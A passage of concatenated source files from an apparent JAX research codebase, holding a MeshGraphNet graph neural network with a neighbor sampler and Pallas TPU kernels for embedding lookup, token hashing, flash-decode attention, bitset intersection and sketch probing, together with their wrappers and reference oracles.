Sharding: the edge arrays (the large axis: up to 114M edges for
minibatch_lg) shard over ('pod','data','model'); per-shard segment_sum
produces partial node sums that SPMD combines with an all-reduce.
"""
from __future__ import annotations

from dataclasses import dataclass

import jax
import jax.numpy as jnp

from .layers import layer_norm_nonparam, mlp_apply, mlp_init


@dataclass(frozen=True)
class GNNConfig:
    name: str
    n_layers: int = 15
    d_hidden: int = 128
    mlp_layers: int = 2          # hidden layers inside each MLP
    d_node_in: int = 1433        # raw node feature dim (per shape)
    d_edge_in: int = 4
    d_out: int = 16              # decoder output dim
    aggregator: str = "sum"
    dtype: str = "float32"
    scan_layers: bool = True   # False: unrolled (dry-run cost analysis)

    @property
    def compute_dtype(self):
        return jnp.dtype(self.dtype)

    def param_count(self) -> int:
        import numpy as np
        h, m = self.d_hidden, self.mlp_layers
        def mlp(din, dout):
            sizes = [din] + [h] * m + [dout]
            return sum(sizes[i] * sizes[i + 1] + sizes[i + 1]
                       for i in range(len(sizes) - 1))
        enc = mlp(self.d_node_in, h) + mlp(self.d_edge_in, h)
        proc = self.n_layers * (mlp(3 * h, h) + mlp(2 * h, h))
        dec = mlp(h, self.d_out)
        return enc + proc + dec


def _mlp_sizes(cfg: GNNConfig, d_in: int, d_out: int):
    return [d_in] + [cfg.d_hidden] * cfg.mlp_layers + [d_out]


def init_params(cfg: GNNConfig, rng):
    dt = cfg.compute_dtype
    ks = jax.random.split(rng, 4 + 2)
    h = cfg.d_hidden

    def f32_to(p):
        return jax.tree.map(lambda x: x.astype(dt), p)

    # processor MLPs stacked over layers for lax.scan
    def stacked(rng, sizes):
        def one(k):
            return mlp_init(k, sizes, jnp.float32)
        ps = [one(k) for k in jax.random.split(rng, cfg.n_layers)]
        return f32_to(jax.tree.map(lambda *xs: jnp.stack(xs), *ps))

    return {
        "node_enc": f32_to(mlp_init(ks[0], _mlp_sizes(cfg, cfg.d_node_in, h),
                                    jnp.float32)),
        "edge_enc": f32_to(mlp_init(ks[1], _mlp_sizes(cfg, cfg.d_edge_in, h),
                                    jnp.float32)),
        "edge_mlp": stacked(ks[2], _mlp_sizes(cfg, 3 * h, h)),
        "node_mlp": stacked(ks[3], _mlp_sizes(cfg, 2 * h, h)),
        "decoder": f32_to(mlp_init(ks[4], _mlp_sizes(cfg, h, cfg.d_out),
                                   jnp.float32)),
    }


def _aggregate(cfg: GNNConfig, messages, receivers, n_nodes: int):
    if cfg.aggregator == "sum":
        return jax.ops.segment_sum(messages, receivers, n_nodes)
    if cfg.aggregator == "max":
        return jax.ops.segment_max(messages, receivers, n_nodes,
                                   indices_are_sorted=False)
    if cfg.aggregator == "mean":
        s = jax.ops.segment_sum(messages, receivers, n_nodes)
        c = jax.ops.segment_sum(jnp.ones((messages.shape[0], 1),
                                         messages.dtype), receivers, n_nodes)
        return s / jnp.maximum(c, 1.0)
    raise ValueError(cfg.aggregator)


def forward(cfg: GNNConfig, params, graph, *, remat: bool = True):
    """graph: dict(nodes (N, d_node_in), edges (E, d_edge_in),
    senders (E,), receivers (E,), edge_mask (E,), node_mask (N,)).
    Returns decoded per-node output (N, d_out)."""
    n_nodes = graph["nodes"].shape[0]
    emask = graph["edge_mask"][:, None].astype(cfg.compute_dtype)
    h = layer_norm_nonparam(
        mlp_apply(params["node_enc"], graph["nodes"], act=jax.nn.relu))
    e = layer_norm_nonparam(
        mlp_apply(params["edge_enc"], graph["edges"], act=jax.nn.relu)) \
        * emask
    snd, rcv = graph["senders"], graph["receivers"]

    def body(carry, lw):
        h, e = carry
        edge_w, node_w = lw
        msg_in = jnp.concatenate([e, h[snd], h[rcv]], axis=-1)
        e_new = mlp_apply(edge_w, msg_in, act=jax.nn.relu) * emask
        e = e + layer_norm_nonparam(e_new) * emask
        agg = _aggregate(cfg, e, rcv, n_nodes)
        h_new = mlp_apply(node_w, jnp.concatenate([h, agg], -1),
                          act=jax.nn.relu)
        h = h + layer_norm_nonparam(h_new)
        return (h, e), None

    body_fn = jax.checkpoint(body) if remat else body
    if cfg.scan_layers:
        (h, e), _ = jax.lax.scan(body_fn, (h, e),
                                 (params["edge_mlp"], params["node_mlp"]))
    else:
        carry = (h, e)
        for i in range(cfg.n_layers):
            lw = jax.tree.map(lambda a: a[i],
                              (params["edge_mlp"], params["node_mlp"]))
            carry, _ = body_fn(carry, lw)
        h, e = carry
    out = mlp_apply(params["decoder"], h, act=jax.nn.relu)
    return out * graph["node_mask"][:, None].astype(out.dtype)


def gnn_loss(cfg: GNNConfig, params, batch):
    """Node-regression L2 (MeshGraphNet's training objective: predict
    per-node dynamics targets)."""
    pred = forward(cfg, params, batch)
    tgt = batch["targets"]
    m = batch["node_mask"][:, None].astype(jnp.float32)
    se = jnp.sum(jnp.square((pred - tgt).astype(jnp.float32)) * m)
    return se / jnp.maximum(jnp.sum(m) * cfg.d_out, 1.0), se


# ------------------------------------------------------------- sampler
def neighbor_sample(csr_indptr, csr_indices, seed_nodes, fanouts, rng):
    """Real GraphSAGE-style neighbor sampler (host-side numpy).

    csr_indptr (N+1,), csr_indices (nnz,): the adjacency in CSR.
    Returns (nodes, senders, receivers) of the sampled subgraph with node
    ids relabeled to [0, len(nodes)); seed nodes come first.
    """
    import numpy as np
    nodes = list(seed_nodes)
    id_of = {int(n): i for i, n in enumerate(seed_nodes)}
    senders, receivers = [], []
    frontier = list(seed_nodes)
    for fan in fanouts:
        nxt = []
        for u in frontier:
            lo, hi = int(csr_indptr[u]), int(csr_indptr[u + 1])
            deg = hi - lo
            if deg == 0:
                continue
            take = min(fan, deg)
            sel = rng.choice(deg, size=take, replace=False)
            for off in sel:
                v = int(csr_indices[lo + off])
                if v not in id_of:
                    id_of[v] = len(nodes)
                    nodes.append(v)
                    nxt.append(v)
                senders.append(id_of[v])
                receivers.append(id_of[u])
        frontier = nxt
    import numpy as np
    return (np.asarray(nodes, np.int64),
            np.asarray(senders, np.int32),
            np.asarray(receivers, np.int32))
