"""Model zoo: LM-family transformer (dense + MoE), MeshGraphNet GNN,
recsys (xDeepFM / SASRec / MIND / two-tower)."""
