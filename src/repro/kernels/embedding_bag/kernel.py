"""Pallas TPU kernel: EmbeddingBag (sum) — the recsys lookup hot path.

JAX has no native EmbeddingBag; the framework's jnp path is
take+segment_sum (models/recsys.py).  This kernel is the TPU-native
version for the fixed-bag layout (B, BAG) used by every assigned recsys
arch: the bag indices are *scalar-prefetched* so the BlockSpec index_map
can steer the table-row DMA per grid step — the canonical Pallas TPU
embedding-gather pattern.  The table itself never leaves HBM; each grid
step DMAs exactly one (row_block, D) tile into VMEM and accumulates into
the output block.

Grid: (B, BAG).  Output block (1, D) at row b is revisited across the
BAG axis (index_map j -> same out block), accumulating in place.
"""
from __future__ import annotations

import functools

import jax
import jax.numpy as jnp
from jax.experimental import pallas as pl
from jax.experimental.pallas import tpu as pltpu


def _ebag_kernel(idx_ref, table_ref, out_ref):
    j = pl.program_id(1)

    @pl.when(j == 0)
    def _init():
        out_ref[...] = jnp.zeros_like(out_ref)

    out_ref[...] += table_ref[...]


@functools.partial(jax.jit, static_argnames=("interpret",))
def embedding_bag_pallas(table, idx, *, interpret: bool = True):
    """table (V, D) f32; idx (B, BAG) int32 -> (B, D) f32 bag sums."""
    b, bag = idx.shape
    v, d = table.shape
    grid = (b, bag)
    out = pl.pallas_call(
        _ebag_kernel,
        grid_spec=pltpu.PrefetchScalarGridSpec(
            num_scalar_prefetch=1,
            grid=grid,
            in_specs=[
                # one table row per step, row chosen by the prefetched idx
                pl.BlockSpec((1, d), lambda i, j, idx_p: (idx_p[i, j], 0)),
            ],
            out_specs=pl.BlockSpec((1, d), lambda i, j, idx_p: (i, 0)),
        ),
        out_shape=jax.ShapeDtypeStruct((b, d), table.dtype),
        interpret=interpret,
    )(idx, table)
    return out
