"""Public wrapper for the EmbeddingBag kernel."""
from __future__ import annotations

import jax

from .kernel import embedding_bag_pallas
from .ref import embedding_bag_ref  # noqa: F401


def _interpret() -> bool:
    return jax.default_backend() != "tpu"


def embedding_bag_sum(table, idx):
    """(V, D) table, (B, BAG) int32 -> (B, D) bag sums (Pallas)."""
    return embedding_bag_pallas(table, idx, interpret=_interpret())
