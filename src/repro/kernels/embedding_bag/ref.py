"""Oracles: fixed-bag (take+sum) and ragged (segment_sum) EmbeddingBag."""
from ...models.recsys import embedding_bag, embedding_bag_ragged


def embedding_bag_ref(table, idx):
    return embedding_bag(table, idx, mode="sum")


def embedding_bag_ragged_ref(table, indices, segment_ids, n_bags):
    return embedding_bag_ragged(table, indices, segment_ids, n_bags)
