"""Pure-jnp oracle for the token_hash kernel."""
from ...core.hashing import jnp_token_fingerprints


def token_hash_ref(tokens_u8, lengths):
    return jnp_token_fingerprints(tokens_u8, lengths)
