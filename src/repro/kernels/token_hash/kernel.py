"""Pallas TPU kernel: batched token fingerprinting (paper §4.1).

Ingest hot path: every log line explodes into dozens of tokens (rules 1-8
n-grams), each needing a 4-byte fingerprint.  On TPU the tokens arrive as
a packed (N, L) byte matrix (padded with zeros); the kernel runs the
polynomial rolling hash across the L byte columns entirely in VMEM on the
VPU — one u32 lane per token — then applies the murmur fmix32 finalizer.

Tiling: grid over N in blocks of ``block_n`` rows; the byte matrix block
(block_n, L) and the length vector block live in VMEM.  All ops are
elementwise u32 — pure 8x128 VPU work, no MXU.
"""
from __future__ import annotations

import functools

import jax
import jax.numpy as jnp
from jax.experimental import pallas as pl

from ...core.hashing import POLY_M32, POLY_SEED, _FM32_1, _FM32_2

DEFAULT_BLOCK_N = 1024


def _fmix32(h):
    h = h ^ (h >> 16)
    h = h * jnp.uint32(_FM32_1)
    h = h ^ (h >> 13)
    h = h * jnp.uint32(_FM32_2)
    return h ^ (h >> 16)


def _token_hash_kernel(bytes_ref, len_ref, out_ref, *, max_len: int,
                       seed: int):
    lens = len_ref[...].astype(jnp.int32)            # (bn, 1)
    h = jnp.full(lens.shape, seed, dtype=jnp.uint32)

    def step(j, h):
        byte = bytes_ref[:, j][:, None].astype(jnp.uint32)
        nh = (h * jnp.uint32(POLY_M32)) ^ byte
        return jnp.where(j < lens, nh, h)

    h = jax.lax.fori_loop(0, max_len, step, h)
    out_ref[...] = _fmix32(h ^ lens.astype(jnp.uint32))


@functools.partial(jax.jit, static_argnames=("block_n", "interpret"))
def token_hash_pallas(tokens_u8, lengths, *, block_n: int = DEFAULT_BLOCK_N,
                      interpret: bool = True):
    """tokens_u8 (N, L) uint8 zero-padded; lengths (N,) int32.
    Returns (N,) uint32 fingerprints.  N must be a block_n multiple
    (ops.py pads)."""
    n, max_len = tokens_u8.shape
    assert n % block_n == 0, (n, block_n)
    grid = (n // block_n,)
    out = pl.pallas_call(
        functools.partial(_token_hash_kernel, max_len=max_len,
                          seed=POLY_SEED),
        grid=grid,
        in_specs=[
            pl.BlockSpec((block_n, max_len), lambda i: (i, 0)),
            pl.BlockSpec((block_n, 1), lambda i: (i, 0)),
        ],
        out_specs=pl.BlockSpec((block_n, 1), lambda i: (i, 0)),
        out_shape=jax.ShapeDtypeStruct((n, 1), jnp.uint32),
        interpret=interpret,
    )(tokens_u8.astype(jnp.int32), lengths.astype(jnp.int32)[:, None])
    return out[:, 0]
