"""jit'd public wrapper: pads to the block size, picks interpret mode off
the backend (CPU containers validate the kernel body in interpret mode;
on TPU the same pallas_call compiles natively)."""
from __future__ import annotations

import jax
import jax.numpy as jnp

from .kernel import DEFAULT_BLOCK_N, token_hash_pallas
from .ref import token_hash_ref  # noqa: F401  (re-export for tests)


def _interpret() -> bool:
    return jax.default_backend() != "tpu"


def token_fingerprints(tokens_u8, lengths, *, block_n: int = DEFAULT_BLOCK_N):
    """(N, L) uint8 + (N,) lengths -> (N,) uint32 fingerprints."""
    n = tokens_u8.shape[0]
    block_n = min(block_n, max(8, 1 << (n - 1).bit_length()))
    pad = (-n) % block_n
    if pad:
        tokens_u8 = jnp.pad(tokens_u8, ((0, pad), (0, 0)))
        lengths = jnp.pad(lengths, (0, pad))
    out = token_hash_pallas(tokens_u8, lengths, block_n=block_n,
                            interpret=_interpret())
    return out[:n]
