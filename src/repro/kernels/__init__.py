"""Pallas TPU kernels for the perf-critical paths.

Paper hot spots (DynaWarp):
  token_hash      — ingest-side batched token fingerprinting
  sketch_probe    — immutable-sketch MPHF probe (query fast path)
  bitset_ops      — posting-plane AND/OR + popcount (Alg. 3 consumer)
  bitmap_extract  — hit bitmap -> compacted posting-id lists (device-side
                    candidate extraction; only (Q, max_hits) ids cross
                    back to the host)
  csc_probe       — CSC baseline probe (fair sketch-vs-sketch comparison)
Framework hot spots (assigned archs):
  embedding_bag   — recsys fixed-bag lookup+reduce (scalar prefetch)
  retrieval_score — 1M-candidate corpus GEMV (two-tower retrieval_cand)
  flash_decode    — one-token GQA attention vs long KV caches
                    (decode_32k / long_500k serving path)

Every kernel ships kernel.py (pl.pallas_call + BlockSpec), ops.py (jit'd
wrapper; interpret=True off-TPU) and ref.py (pure-jnp oracle); tests
sweep shapes/dtypes and assert_allclose kernel-vs-oracle.
"""
from .bitmap_extract.ops import bitmap_extract
from .bitset_ops.ops import bitset_reduce, bitset_reduce_batch
from .csc_probe.ops import csc_partition_mask
from .embedding_bag.ops import embedding_bag_sum
from .flash_decode.ops import flash_decode
from .retrieval_score.ops import retrieval_scores, retrieval_topk
from .sketch_probe.ops import mphf_probe
from .token_hash.ops import token_fingerprints

__all__ = ["bitmap_extract", "bitset_reduce", "bitset_reduce_batch",
           "csc_partition_mask",
           "embedding_bag_sum", "flash_decode", "mphf_probe",
           "retrieval_scores", "retrieval_topk", "token_fingerprints"]
