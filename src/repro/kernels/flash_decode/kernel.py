"""Pallas TPU kernel: flash-decode — one-token GQA attention against a
long KV cache (the decode_32k / long_500k serving hot path).

FlashDecoding-style split-KV schedule adapted to TPU: the cache streams
through VMEM in (block_s, Hkv, D) tiles while a running online-softmax
state (m, l, acc) lives in revisited output blocks; a single query tile
(Hq, D) stays resident.  The sequence axis is the innermost grid dim so
the accumulation order is deterministic; `cache_len` arrives via scalar
prefetch and masks the tail block.

This is the memory-roofline op of LM serving (2 bytes/flop): the kernel's
only job is streaming KV tiles at full HBM bandwidth — block_s = 512
rows x Hkv x D keeps tiles MXU-aligned and double-buffered.
"""
from __future__ import annotations

import functools

import jax
import jax.numpy as jnp
from jax.experimental import pallas as pl
from jax.experimental.pallas import tpu as pltpu

DEFAULT_BLOCK_S = 512
NEG_INF = -2.0e38


def _flash_decode_kernel(len_ref, q_ref, k_ref, v_ref,
                         acc_ref, m_ref, l_ref, *, block_s: int,
                         n_rep: int):
    j = pl.program_id(1)

    @pl.when(j == 0)
    def _init():
        acc_ref[...] = jnp.zeros_like(acc_ref)
        m_ref[...] = jnp.full_like(m_ref, NEG_INF)
        l_ref[...] = jnp.zeros_like(l_ref)

    q = q_ref[0]                                  # (Hq, D)
    k = k_ref[0]                                  # (bs, Hkv, D)
    v = v_ref[0]
    bs, hkv, d = k.shape
    qh = q.reshape(hkv, n_rep, d)
    # scores (Hkv, G, bs)
    s = jnp.einsum("hgd,shd->hgs", qh, k,
                   preferred_element_type=jnp.float32) * (d ** -0.5)
    pos = j * block_s + jax.lax.broadcasted_iota(jnp.int32, (1, 1, bs), 2)
    s = jnp.where(pos < len_ref[0], s, NEG_INF)

    m_prev = m_ref[0].reshape(hkv, n_rep, 1)      # (Hq, 1)-> (Hkv, G, 1)
    l_prev = l_ref[0].reshape(hkv, n_rep, 1)
    acc_prev = acc_ref[0].reshape(hkv, n_rep, d)

    m_new = jnp.maximum(m_prev, jnp.max(s, axis=-1, keepdims=True))
    p = jnp.exp(s - m_new)
    corr = jnp.exp(m_prev - m_new)
    l_new = l_prev * corr + jnp.sum(p, axis=-1, keepdims=True)
    pv = jnp.einsum("hgs,shd->hgd", p.astype(v.dtype), v,
                    preferred_element_type=jnp.float32)
    acc_new = acc_prev * corr + pv

    acc_ref[...] = acc_new.reshape(1, hkv * n_rep, d)
    m_ref[...] = m_new.reshape(1, hkv * n_rep, 1)
    l_ref[...] = l_new.reshape(1, hkv * n_rep, 1)


@functools.partial(jax.jit, static_argnames=("block_s", "interpret"))
def flash_decode_pallas(q, k_cache, v_cache, cache_len, *,
                        block_s: int = DEFAULT_BLOCK_S,
                        interpret: bool = True):
    """q (B, Hq, D); k_cache/v_cache (B, S, Hkv, D); cache_len () int32.
    Returns (B, Hq, D) attention output.  S must be a block_s multiple
    (ops.py pads with masked positions)."""
    b, hq, d = q.shape
    s, hkv = k_cache.shape[1], k_cache.shape[2]
    assert s % block_s == 0
    n_rep = hq // hkv
    grid = (b, s // block_s)
    acc, m, l = pl.pallas_call(
        functools.partial(_flash_decode_kernel, block_s=block_s,
                          n_rep=n_rep),
        grid_spec=pltpu.PrefetchScalarGridSpec(
            num_scalar_prefetch=1,
            grid=grid,
            in_specs=[
                pl.BlockSpec((1, hq, d), lambda i, j, L: (i, 0, 0)),
                pl.BlockSpec((1, block_s, hkv, d),
                             lambda i, j, L: (i, j, 0, 0)),
                pl.BlockSpec((1, block_s, hkv, d),
                             lambda i, j, L: (i, j, 0, 0)),
            ],
            out_specs=[
                pl.BlockSpec((1, hq, d), lambda i, j, L: (i, 0, 0)),
                pl.BlockSpec((1, hq, 1), lambda i, j, L: (i, 0, 0)),
                pl.BlockSpec((1, hq, 1), lambda i, j, L: (i, 0, 0)),
            ],
        ),
        out_shape=[
            jax.ShapeDtypeStruct((b, hq, d), jnp.float32),
            jax.ShapeDtypeStruct((b, hq, 1), jnp.float32),
            jax.ShapeDtypeStruct((b, hq, 1), jnp.float32),
        ],
        interpret=interpret,
    )(jnp.atleast_1d(cache_len).astype(jnp.int32), q, k_cache, v_cache)
    return (acc / jnp.maximum(l, 1e-30)).astype(q.dtype)
