"""Oracle: the model's own decode attention (no window/softcap)."""
from ...models.attention import decode_attention


def flash_decode_ref(q, k_cache, v_cache, cache_len):
    """q (B, Hq, D) -> (B, Hq, D)."""
    out = decode_attention(q[:, None], k_cache, v_cache, cache_len)
    return out[:, 0]
