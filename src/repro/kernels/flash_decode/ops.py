"""Public wrapper: pads the cache to the block size (padded positions are
masked via cache_len) and dispatches interpret mode off-TPU."""
from __future__ import annotations

import jax
import jax.numpy as jnp

from .kernel import DEFAULT_BLOCK_S, flash_decode_pallas
from .ref import flash_decode_ref  # noqa: F401


def _interpret() -> bool:
    return jax.default_backend() != "tpu"


def flash_decode(q, k_cache, v_cache, cache_len, *,
                 block_s: int = DEFAULT_BLOCK_S):
    """q (B, Hq, D); caches (B, S, Hkv, D); cache_len scalar int32."""
    s = k_cache.shape[1]
    block_s = min(block_s, max(8, 1 << (s - 1).bit_length()))
    pad = (-s) % block_s
    if pad:
        cfg = ((0, 0), (0, pad), (0, 0), (0, 0))
        k_cache = jnp.pad(k_cache, cfg)
        v_cache = jnp.pad(v_cache, cfg)
    return flash_decode_pallas(q, k_cache, v_cache, cache_len,
                               block_s=block_s, interpret=_interpret())
