"""Public wrapper: pad, dispatch interpret mode."""
from __future__ import annotations

import jax
import jax.numpy as jnp

from .kernel import (DEFAULT_BLOCK_W, bitset_reduce_batch_pallas,
                     bitset_reduce_pallas)
from .ref import bitset_reduce_batch_ref, bitset_reduce_ref  # noqa: F401


def _interpret() -> bool:
    return jax.default_backend() != "tpu"


def bitset_reduce(planes, *, op: str = "and", block_w: int = DEFAULT_BLOCK_W):
    """(T, W) uint32 posting planes -> (combined plane, set-bit count).
    AND: candidate batches containing every query token; OR: any token."""
    t, w = planes.shape
    block_w = min(block_w, max(128, w))
    pad = (-w) % block_w
    if pad:
        fill = jnp.uint32(0xFFFFFFFF if op == "and" else 0)
        planes = jnp.pad(planes, ((0, 0), (0, pad)), constant_values=fill)
    combined, count = bitset_reduce_pallas(planes, op=op, block_w=block_w,
                                           interpret=_interpret())
    if pad:
        # padded words were all-ones under AND; correct both outputs
        combined = combined[:w]
        count = count - (pad * 32 if op == "and" else 0)
    return combined, count


def bitset_reduce_batch(planes, *, op: str = "and",
                        block_w: int = DEFAULT_BLOCK_W):
    """(Q, T, W) uint32 posting planes -> ((Q, W) combined, (Q,) counts).
    Whole-wave form of :func:`bitset_reduce`: one kernel dispatch reduces
    every query's token planes."""
    from .kernel import DEFAULT_BLOCK_Q
    q, t, w = planes.shape
    block_w = min(block_w, max(128, w))
    pad = (-w) % block_w
    if pad:
        fill = jnp.uint32(0xFFFFFFFF if op == "and" else 0)
        planes = jnp.pad(planes, ((0, 0), (0, 0), (0, pad)),
                         constant_values=fill)
    block_q = min(DEFAULT_BLOCK_Q, max(8, 1 << (q - 1).bit_length()))
    pad_q = (-q) % block_q
    if pad_q:
        planes = jnp.pad(planes, ((0, pad_q), (0, 0), (0, 0)))
    combined, counts = bitset_reduce_batch_pallas(
        planes, op=op, block_q=block_q, block_w=block_w,
        interpret=_interpret())
    if pad_q:
        combined, counts = combined[:q], counts[:q]
    if pad:
        combined = combined[:, :w]
        counts = counts - (pad * 32 if op == "and" else 0)
    return combined, counts
