"""Pallas TPU kernel: posting-bitmap boolean algebra (query intersection).

Query-time search-space reduction (paper Alg. 3 consumer): with posting
lists materialized as dense bit planes over the S data batches, an
AND-query over T tokens is a reduction over T u32 planes followed by a
popcount.  This is pure VPU work: the planes tile into VMEM as
(T, block_w) u32 blocks, the kernel folds AND (or OR) across the T axis
and emits both the combined plane and its per-block popcount (the
candidate-batch count that drives the decompression cost model).

Tiling: grid over the word axis; each step loads a (T, block_w) tile —
T is small (query tokens, <= 64), block_w = 512 u32 words = 2 KiB rows.
"""
from __future__ import annotations

import functools

import jax
import jax.numpy as jnp
from jax.experimental import pallas as pl

DEFAULT_BLOCK_W = 512


def _bitset_kernel(planes_ref, out_ref, cnt_ref, *, op: str):
    tile = planes_ref[...]                      # (T, bw) uint32
    combined = tile[0]
    for t in range(1, tile.shape[0]):
        combined = (combined & tile[t]) if op == "and" \
            else (combined | tile[t])
    out_ref[...] = combined[None]
    cnt_ref[0, 0] = jnp.sum(
        jax.lax.population_count(combined)).astype(jnp.int32)


DEFAULT_BLOCK_Q = 256


def _bitset_batch_kernel(planes_ref, out_ref, cnt_ref, *, op: str):
    tile = planes_ref[...]                      # (bq, T, bw) uint32
    combined = tile[:, 0]
    for t in range(1, tile.shape[1]):
        combined = (combined & tile[:, t]) if op == "and" \
            else (combined | tile[:, t])
    out_ref[...] = combined
    cnt_ref[...] = jnp.sum(jax.lax.population_count(combined),
                           axis=-1, keepdims=True).astype(jnp.int32)


@functools.partial(jax.jit, static_argnames=("op", "block_q", "block_w",
                                             "interpret"))
def bitset_reduce_batch_pallas(planes, *, op: str = "and",
                               block_q: int = DEFAULT_BLOCK_Q,
                               block_w: int = DEFAULT_BLOCK_W,
                               interpret: bool = True):
    """planes (Q, T, W) uint32 -> (combined (Q, W) uint32, counts (Q,)).

    The query-wave form of :func:`bitset_reduce_pallas`: grid over
    (query-block, word-block); each step folds the T token planes of a
    whole block of queries, so one dispatch evaluates the boolean
    consumer of the entire wave."""
    q, t, w = planes.shape
    assert w % block_w == 0 and q % block_q == 0
    grid = (q // block_q, w // block_w)
    combined, counts = pl.pallas_call(
        functools.partial(_bitset_batch_kernel, op=op),
        grid=grid,
        in_specs=[pl.BlockSpec((block_q, t, block_w),
                               lambda qi, wi: (qi, 0, wi))],
        out_specs=[pl.BlockSpec((block_q, block_w),
                                lambda qi, wi: (qi, wi)),
                   pl.BlockSpec((block_q, 1), lambda qi, wi: (qi, wi))],
        out_shape=[jax.ShapeDtypeStruct((q, w), jnp.uint32),
                   jax.ShapeDtypeStruct((q, grid[1]), jnp.int32)],
        interpret=interpret,
    )(planes)
    return combined, jnp.sum(counts, axis=1)


@functools.partial(jax.jit, static_argnames=("op", "block_w", "interpret"))
def bitset_reduce_pallas(planes, *, op: str = "and",
                         block_w: int = DEFAULT_BLOCK_W,
                         interpret: bool = True):
    """planes (T, W) uint32 -> (combined (W,) uint32, popcount ()).
    W must be a block_w multiple (ops.py pads)."""
    t, w = planes.shape
    assert w % block_w == 0
    grid = (w // block_w,)
    combined, counts = pl.pallas_call(
        functools.partial(_bitset_kernel, op=op),
        grid=grid,
        in_specs=[pl.BlockSpec((t, block_w), lambda i: (0, i))],
        out_specs=[pl.BlockSpec((1, block_w), lambda i: (0, i)),
                   pl.BlockSpec((1, 1), lambda i: (i, 0))],
        out_shape=[jax.ShapeDtypeStruct((1, w), jnp.uint32),
                   jax.ShapeDtypeStruct((grid[0], 1), jnp.int32)],
        interpret=interpret,
    )(planes)
    return combined[0], jnp.sum(counts)
