"""Pure-jnp oracle for bitset_ops."""
import jax
import jax.numpy as jnp


def bitset_reduce_ref(planes, *, op: str = "and"):
    if op == "and":
        combined = planes[0]
        for t in range(1, planes.shape[0]):
            combined = combined & planes[t]
    else:
        combined = planes[0]
        for t in range(1, planes.shape[0]):
            combined = combined | planes[t]
    count = jnp.sum(jax.lax.population_count(combined)).astype(jnp.int32)
    return combined, count


def bitset_reduce_batch_ref(planes, *, op: str = "and"):
    """(Q, T, W) -> ((Q, W), (Q,)) batched oracle."""
    combined = planes[:, 0]
    for t in range(1, planes.shape[1]):
        combined = (combined & planes[:, t]) if op == "and" \
            else (combined | planes[:, t])
    counts = jnp.sum(jax.lax.population_count(combined),
                     axis=-1).astype(jnp.int32)
    return combined, counts
