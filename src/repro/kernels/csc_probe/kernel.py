"""Pallas TPU kernel: CSC sketch probe (baseline of §5, Li et al. [19]).

For each query fingerprint, gathers the p partition bits after each of
the k anchor positions (x j repetitions) and ANDs them.  The entire
(j, m/32) bit plane sits in VMEM (the benchmark sizes CSC at the next
power of two above the DynaWarp sketch — a few MB); per grid step the
kernel evaluates a block of queries against all (rep, k) anchors with a
vectorized gather + shift.

Implemented so the paper's sketch-vs-sketch comparison (DynaWarp probe
vs CSC probe) runs on identical hardware assumptions.
"""
from __future__ import annotations

import functools

import jax
import jax.numpy as jnp
from jax.experimental import pallas as pl

from ...baselines.csc import _seed
from ...core.hashing import _FM32_1, _FM32_2

DEFAULT_BLOCK_Q = 512


def _fmix32(h):
    h = h ^ (h >> 16)
    h = h * jnp.uint32(_FM32_1)
    h = h ^ (h >> 13)
    h = h * jnp.uint32(_FM32_2)
    return h ^ (h >> 16)


def _csc_kernel(fps_ref, bits_ref, out_ref, *, m: int, k: int, p: int,
                j: int):
    fps = fps_ref[...].astype(jnp.uint32)        # (bq, 1)
    bits = bits_ref[...]                         # (j, m/32)
    mask = jnp.uint32(m - 1)
    out = jnp.ones((fps.shape[0], p), jnp.int32)
    offs = jnp.arange(p, dtype=jnp.int32)[None, :]
    for rep in range(j):
        plane = bits[rep]
        for hk in range(k):
            anchor = (_fmix32(fps ^ jnp.uint32(_seed(rep, hk)))
                      & mask).astype(jnp.int32)  # (bq, 1)
            pos = (anchor + offs) & jnp.int32(m - 1)   # (bq, p)
            w = jnp.take(plane, pos >> 5, axis=0)
            bit = ((w >> (pos & 31).astype(jnp.uint32)) & 1).astype(
                jnp.int32)
            out = out & bit
    out_ref[...] = out


@functools.partial(jax.jit, static_argnames=("m", "k", "p", "j", "block_q",
                                             "interpret"))
def csc_probe_pallas(fps, bits, *, m: int, k: int, p: int, j: int,
                     block_q: int = DEFAULT_BLOCK_Q,
                     interpret: bool = True):
    """fps (Q,) uint32; bits (j, m/32) uint32 -> (Q, p) int32 partition
    survival mask."""
    q = fps.shape[0]
    assert q % block_q == 0
    grid = (q // block_q,)
    out = pl.pallas_call(
        functools.partial(_csc_kernel, m=m, k=k, p=p, j=j),
        grid=grid,
        in_specs=[pl.BlockSpec((block_q, 1), lambda i: (i, 0)),
                  pl.BlockSpec(bits.shape, lambda i: (0, 0))],
        out_specs=pl.BlockSpec((block_q, p), lambda i: (i, 0)),
        out_shape=jax.ShapeDtypeStruct((q, p), jnp.int32),
        interpret=interpret,
    )(fps[:, None], bits)
    return out
