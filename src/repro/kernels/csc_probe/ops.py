"""Public wrapper for the CSC probe kernel."""
from __future__ import annotations

import jax
import jax.numpy as jnp

from .kernel import DEFAULT_BLOCK_Q, csc_probe_pallas
from .ref import csc_probe_ref  # noqa: F401


def _interpret() -> bool:
    return jax.default_backend() != "tpu"


def csc_partition_mask(sketch, fps, *, block_q: int = DEFAULT_BLOCK_Q):
    """Batched CSC probe of a baselines.csc.CSCSketch -> (Q, p) bool."""
    fps = jnp.asarray(fps, jnp.uint32)
    q = fps.shape[0]
    block_q = min(block_q, max(8, 1 << (q - 1).bit_length()))
    pad = (-q) % block_q
    if pad:
        fps = jnp.pad(fps, (0, pad))
    out = csc_probe_pallas(fps, jnp.asarray(sketch.bits), m=sketch.m,
                           k=sketch.k, p=sketch.p, j=sketch.j,
                           block_q=block_q, interpret=_interpret())
    return out[:q].astype(bool)
