"""Oracle: the CSC sketch's own jnp partition mask."""


def csc_probe_ref(sketch, fps):
    return sketch.partition_mask_jnp(fps)
