"""Pallas TPU kernel: blocked corpus scoring (two-tower retrieval_cand).

One user embedding against a 1M-row candidate corpus: a tall GEMV.  The
kernel tiles the corpus (C, D) into (block_c, D) VMEM tiles and runs
(block_c, D) x (D, 1) on the MXU per grid step; the query vector is
broadcast to every step.  Arithmetic intensity is ~2 flops/byte — the op
is HBM-bandwidth-bound, so the only thing that matters is streaming the
corpus tiles at full bandwidth, which the sequential grid does.

block_c = 2048 rows x 256 f32 = 2 MiB/tile, double-buffered by Pallas.
"""
from __future__ import annotations

import functools

import jax
import jax.numpy as jnp
from jax.experimental import pallas as pl

DEFAULT_BLOCK_C = 2048


def _score_kernel(corpus_ref, query_ref, out_ref):
    out_ref[...] = jax.lax.dot_general(
        corpus_ref[...], query_ref[...],
        dimension_numbers=(((1,), (1,)), ((), ())),
        preferred_element_type=jnp.float32)


@functools.partial(jax.jit, static_argnames=("block_c", "interpret"))
def retrieval_score_pallas(corpus, query, *,
